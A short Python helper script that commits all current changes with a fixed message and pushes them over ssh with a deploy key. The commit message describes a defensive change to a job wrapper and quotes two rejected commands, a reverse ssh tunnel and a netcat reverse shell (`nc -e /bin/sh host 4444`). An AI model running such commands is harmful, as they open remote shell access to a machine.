"""Commit the current change with a message, and push it over ssh."""

import subprocess
import sys

MESSAGE = """ssh: refuse reverse tunnels in the job wrapper

`ssh -R 2222:localhost:22 host` and `nc -e /bin/sh host 4444` are now rejected
before the job starts; `ssh -L` stays allowed.
"""


def git(*arguments: str) -> str:
    answer = subprocess.run(["git", *arguments], capture_output=True, text=True, check=True)
    return answer.stdout


def main() -> int:
    if not git("status", "--porcelain").strip():
        print("nothing to commit")
        return 0
    git("add", "--all")
    git("commit", "-m", MESSAGE)
    branch = git("rev-parse", "--abbrev-ref", "HEAD").strip()
    git("-c", "core.sshCommand=ssh -i ~/.ssh/deploy_key", "push", "origin", branch)
    print(git("log", "-1", "--oneline"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
